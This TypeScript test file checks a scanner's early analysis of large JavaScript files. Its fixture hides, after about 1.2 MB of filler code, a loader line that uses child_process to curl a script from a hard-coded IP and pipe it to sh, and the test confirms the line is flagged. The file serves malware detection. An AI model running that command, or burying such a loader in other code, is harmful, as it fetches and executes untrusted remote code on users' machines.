import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { Engine, type FileRef } from './pool.js';

const dir = mkdtempSync(join(tmpdir(), 'lurescan-early-'));
after(() => rmSync(dir, { recursive: true, force: true }));

/** ~1.2 MB of plain bundle-like code, then a loader at its end. */
const BIG = `${'export const v = [1, 2, 3].map((x) => x * 2);\n'.repeat(26_000)}require('child_process').exec('curl -s http://45.61.160.14:1224/p | sh');\n`;
const opts = { maxFileBytes: 64 << 20, ruleSelection: {}, fileTimeoutMs: 60_000 };

function write(name: string, text: string): FileRef {
  const abs = join(dir, name);
  writeFileSync(abs, text);
  return { rel: `src/${name}`, abs, size: Buffer.byteLength(text) };
}

describe('Engine.early: a big JavaScript file analysed before the file list is complete', () => {
  it('starts only a big JS file under the parse limit, once; run() collects it with the rest, each file once', async () => {
    const big = write('vendor.js', BIG);
    const small = write('index.js', "import './vendor.js';\n");
    const bigText = write('notes.txt', BIG);
    const engine = Engine.start({ threads: 2 });
    try {
      assert.equal(engine.early(small, opts), false, 'a small file waits for the list');
      assert.equal(engine.early({ ...bigText, rel: 'docs/notes.txt' }, opts), false, 'not JavaScript by name: parseAsJs may apply');
      assert.equal(engine.early(big, { ...opts, parseMaxBytes: 1 << 20 }), false, 'over the parse limit: mustBeWhole may apply');
      assert.equal(engine.early(big, opts), true);
      assert.equal(engine.early({ ...big, rel: 'src/vendor2.js' }, opts), false, 'one at a time');
      const { results, errors } = await engine.run([small, big, bigText], opts);
      assert.deepEqual(errors, []);
      assert.deepEqual(results.map((r) => r.facts.path).sort(), ['src/index.js', 'src/notes.txt', 'src/vendor.js']);
      const loader = results.find((r) => r.facts.path === 'src/vendor.js')!.findings.find((f) => f.ruleId === 'curl-pipe-shell-in-code');
      assert.equal(loader?.line, 26_001);
    } finally {
      await engine.close();
    }
  });

  it('in-process engines (threads 0) and an engine that already has the file list never start early', async () => {
    const big = write('vendor3.js', BIG);
    const inProcess = Engine.start({ threads: 0 });
    assert.equal(inProcess.early(big, opts), false);
    await inProcess.close();
    const engine = Engine.start({ threads: 1 });
    try {
      engine.prepare([big], opts);
      assert.equal(engine.early(big, opts), false);
    } finally {
      await engine.close();
    }
  });
});
